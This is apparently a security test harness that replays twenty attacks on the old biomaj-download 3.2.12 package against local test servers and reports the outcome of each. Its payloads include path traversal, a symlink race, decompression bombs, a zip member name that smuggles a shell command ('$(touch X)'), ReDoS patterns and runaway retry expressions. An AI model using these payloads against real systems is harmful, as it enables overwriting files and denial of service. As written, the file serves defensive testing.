"""The attacks of docs/security-attacks.md, tried on biomaj-download 3.2.12.

`python -m tests.security.oldpackage [ATTACK...]` prints what becomes of each. The old package is
run as it is, in its own environment (benchmarks/oldpackage.py makes it), through its own classes;
nothing of it is read.
"""

from __future__ import annotations

import gzip
import json
import logging
import os
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from benchmarks import oldpackage
from tests.security.evil import evil_server
from tests.security.test_archives import overlapping, wide_zip
from tests.servers.faulty_http import Answer, FaultyHttpServer
from tests.servers.pyftpd import PyftpdServer

MOST_SECONDS = 60
#: More would be felt by who else works on this machine.
MOST_BYTES = 4 * 1024**3
#: What the old package is told to do, and says of it: one attempt.
PROGRAM = """
import atexit, json, resource, sys
from biomaj_download.download.curl import CurlDownload, HTTPParse
from biomaj_download.download.direct import DirectHTTPDownload
from biomaj_download.download.localcopy import LocalDownload
def used():
    ours, theirs = resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN
    return max(resource.getrusage(who).ru_maxrss for who in (ours, theirs))
atexit.register(lambda: print(f"; {used() // 1024} MiB"))
wish = json.loads(sys.argv[1])
kind, server = wish["protocol"], wish["server"]
if kind == "local":
    downloader = LocalDownload(server)
elif kind == "direct":
    downloader = DirectHTTPDownload("http", server)
else:
    downloader = CurlDownload(kind, server, "/", HTTPParse(*wish["parse"]))
options = {"stop_condition": "stop_after_attempt(1)"}
downloader.set_options({**options, **wish["options"]})
if wish["patterns"]:
    files, directories = downloader.list()
    print("listed", len(files), len(directories))
    downloader.match(wish["patterns"], files, directories)
if wish["files"]:
    downloader.set_files_to_download(wish["files"])
downloader.download(wish["home"])
"""


@dataclass
class Bench:
    """A folder with a home and a precious file outside of it, and what closes the servers."""

    folder: Path
    stack: ExitStack

    @property
    def home(self) -> Path:
        """Where files are to be stored."""
        return self.folder / "home"

    @property
    def outside(self) -> Path:
        """What must stay as it is."""
        return self.folder / "outside"

    def http(self, answers: Mapping[str, Answer]) -> str:
        """Serve answers by their paths; return the server."""
        server = self.stack.enter_context(FaultyHttpServer())
        for path, answer in answers.items():
            server.add(path, answer)
        return f"{server.host}:{server.port}"

    def talking(self, talk: Callable[[Any], None]) -> str:
        """Serve one way of talking; return the server."""
        return str(self.stack.enter_context(evil_server(talk)))

    def ftp(self, listing: str, *, without: tuple[str, ...] = ()) -> str:
        """Serve a listing that is no real one; return the server."""
        server = self.stack.enter_context(PyftpdServer(lists=listing.encode(), without=without))
        (server.root / "outside").mkdir()
        (server.root / "outside" / "precious").write_text("evil")
        return f"{server.host}:{server.port}"


@dataclass(frozen=True, kw_only=True)
class Wish:
    """What the old package is asked for."""

    protocol: str
    server: str
    files: Sequence[Mapping[str, Any]] = ()
    patterns: Sequence[str] = ()
    options: Mapping[str, str] = field(default_factory=dict)
    #: BioMAJ's usual expressions for pages, without dates.
    parse: Sequence[Any] = (r"no(dir)ect(ory)", r'<(a) href="([^"]+)">', 1, -1, 2, -1, None, -1)


#: With the day that a listing would have told.
A_FILE: Mapping[str, Any] = {"name": "a.dat", "year": 2024, "month": 1, "day": 2}
ALL = ("^.*$", "^../.*$")


def absolute_save_as(bench: Bench) -> Wish:
    server = bench.http({"/a.dat": Answer(body=b"evil")})
    file = {**A_FILE, "save_as": str(bench.outside / "precious")}
    return Wish(protocol="http", server=server, files=[file])


#: A row as the old package's usual expressions want it.
ROW = '<img src="/i.gif" alt="[   ]"> <a href="{0}">{0}</a>  24-Jan-2023 07:45  2.3K\n'


def page_of(*names: str) -> Answer:
    text = "".join(ROW.format(name) for name in names)
    return Answer(body=text.encode(), headers={"Content-Type": "text/html"})


def links_up(bench: Bench) -> Wish:
    server = bench.http(
        {
            "/": page_of("fine.dat", "../outside/precious"),
            "/fine.dat": Answer(body=b"fine"),
            "/../outside/precious": Answer(body=b"evil"),
            "/outside/precious": Answer(body=b"evil"),
        }
    )
    return Wish(protocol="http", server=server, patterns=ALL)


def links_to_root(bench: Bench) -> Wish:
    name = str(bench.outside / "precious")
    server = bench.http(
        {"/": page_of(name), f"/{name}": Answer(body=b"evil"), name: Answer(body=b"evil")}
    )
    return Wish(protocol="http", server=server, patterns=ALL)


def ftp_listing_up(bench: Bench) -> Wish:
    line = "-rw-r--r-- 1 ftp ftp 4 Jan 01 2024 {}\r\n"
    server = bench.ftp(line.format("../outside/precious"), without=("MLSD",))
    return Wish(protocol="ftp", server=server, patterns=ALL)


def another_name(bench: Bench) -> Wish:
    told = {"Content-Disposition": "attachment; filename=../outside/precious"}
    server = bench.http(
        {
            "/a.dat": Answer(status=302, headers={"Location": "/evil"}),
            "/evil": Answer(body=b"evil", headers=told),
        }
    )
    return Wish(protocol="direct", server=server, files=[A_FILE])


def swapped_directory(bench: Bench) -> Wish:
    def talk(connection: Any) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n")
        (bench.home / "sub").rename(bench.home / "aside")
        (bench.home / "sub").symlink_to(bench.outside)
        connection.sendall(b"evil")

    (bench.home / "sub").mkdir()
    server = bench.talking(talk)
    file = {**A_FILE, "save_as": "sub/precious"}
    return Wish(protocol="http", server=server, files=[file])


def fifo_there(bench: Bench) -> Wish:
    os.mkfifo(bench.home / "a.dat")
    server = bench.http({"/a.dat": Answer(body=b"evil")})
    return Wish(protocol="http", server=server, files=[A_FILE])


def directory_there(bench: Bench) -> Wish:
    (bench.home / "a.dat").mkdir()
    server = bench.http({"/a.dat": Answer(body=b"evil")})
    return Wish(protocol="http", server=server, files=[A_FILE])


def archive(bench: Bench, name: str, body: bytes) -> Wish:
    server = bench.http({f"/{name}": Answer(body=body)})
    return Wish(protocol="http", server=server, files=[{**A_FILE, "name": name}])


def bomb(bench: Bench) -> Wish:
    return archive(bench, "bomb.gz", gzip.compress(bytes(1024**3), 9))


def overlapping_zip(bench: Bench) -> Wish:
    return archive(bench, "bomb.zip", overlapping(members=300))


def wide_directory_zip(bench: Bench) -> Wish:
    return archive(bench, "wide.zip", wide_zip())


def zip_up(bench: Bench) -> Wish:
    path = bench.folder / "up.zip"
    with zipfile.ZipFile(path, "w") as packed:
        packed.writestr("../outside/evil", b"evil")
        packed.writestr("$(touch X)", b"evil")
    return archive(bench, "up.zip", path.read_bytes())


def broken_zip(bench: Bench) -> Wish:
    return archive(bench, "broken.zip", b"PK no zip")


def slow_expression(bench: Bench) -> Wish:
    server = bench.http({"/": page_of("a" * 60 + "b"), "/" + "a" * 60 + "b": Answer(body=b"fine")})
    return Wish(protocol="http", server=server, patterns=["^(a|aa)+$"])


def retry_power(bench: Bench) -> Wish:
    server = bench.http({"/a.dat": Answer(body=b"fine")})
    options = {"stop_condition": "stop_after_attempt(9**9**9)"}
    return Wish(protocol="http", server=server, files=[A_FILE], options=options)


def retry_attribute(bench: Bench) -> Wish:
    server = bench.http({"/a.dat": Answer(body=b"fine")})
    options = {"stop_condition": "stop_any(*[stop_never for i in range(10**9)])"}
    return Wish(protocol="http", server=server, files=[A_FILE], options=options)


def endless(start: bytes, piece: bytes) -> Callable[[Any], None]:
    def talk(connection: Any) -> None:
        if start:
            connection.recv(65536)
            connection.sendall(start)
        while True:
            connection.sendall(piece * 1000)

    return talk


def endless_listing(bench: Bench) -> Wish:
    row = ROW.format("file").encode()
    server = bench.talking(endless(b"HTTP/1.1 200 OK\r\n\r\n<html>", row))
    return Wish(protocol="http", server=server, patterns=ALL)


def many_entries(bench: Bench) -> Wish:
    rows = "".join(ROW.format(f"f{number}") for number in range(1_000_000))
    server = bench.http({"/": Answer(body=rows.encode())})
    return Wish(protocol="http", server=server, patterns=["^nothing$"])


def endless_headers(bench: Bench) -> Wish:
    server = bench.talking(endless(b"HTTP/1.1 200 OK\r\n", b"X-Evil: yes\r\n"))
    return Wish(protocol="http", server=server, patterns=ALL)


def endless_greeting(bench: Bench) -> Wish:
    server = bench.talking(endless(b"", b"220-welcome\r\n"))
    return Wish(protocol="ftp", server=server, patterns=ALL)


ATTACKS: tuple[Callable[[Bench], Wish], ...] = (
    absolute_save_as,
    links_up,
    links_to_root,
    ftp_listing_up,
    another_name,
    swapped_directory,
    fifo_there,
    directory_there,
    bomb,
    overlapping_zip,
    wide_directory_zip,
    zip_up,
    broken_zip,
    slow_expression,
    retry_power,
    retry_attribute,
    endless_listing,
    many_entries,
    endless_headers,
    endless_greeting,
)


def tried(attack: Callable[[Bench], Wish]) -> str:
    """Return what became of an attack: how the old package ended, and what lies where."""
    with tempfile.TemporaryDirectory() as name, ExitStack() as stack:
        bench = Bench(Path(name), stack)
        bench.home.mkdir()
        bench.outside.mkdir()
        (bench.outside / "precious").write_text("precious")
        wish = attack(bench)
        told = json.dumps({**wish.__dict__, "home": str(bench.home)}, default=list)
        began = time.monotonic()
        try:
            done = subprocess.run(
                [oldpackage.python(), "-c", PROGRAM, told],
                capture_output=True,
                text=True,
                timeout=MOST_SECONDS,
                cwd=bench.folder,
                preexec_fn=_bounded,
                check=False,
            )
            end = (done.stderr.strip().splitlines() or ["no error"])[-1] + " " + done.stdout.strip()
        except subprocess.TimeoutExpired:
            end = f"runs on after {MOST_SECONDS} s"
        seconds = time.monotonic() - began
        left = {
            str(path.relative_to(bench.folder)): _content(path)
            for path in bench.folder.rglob("*")
            if not path.is_dir()
        }
    return f"{attack.__name__}: {end[:200]!r} in {seconds:.1f} s; left {left}"


def _content(path: Path) -> str:
    return path.read_text(errors="replace")[:12] if path.is_file() else "no file"


def _bounded() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MOST_BYTES, MOST_BYTES))


if __name__ == "__main__":
    logging.disable()
    chosen = sys.argv[1:]
    for each in ATTACKS:
        if not chosen or each.__name__ in chosen:
            print(tried(each), flush=True)  # noqa: T201 - what it is for
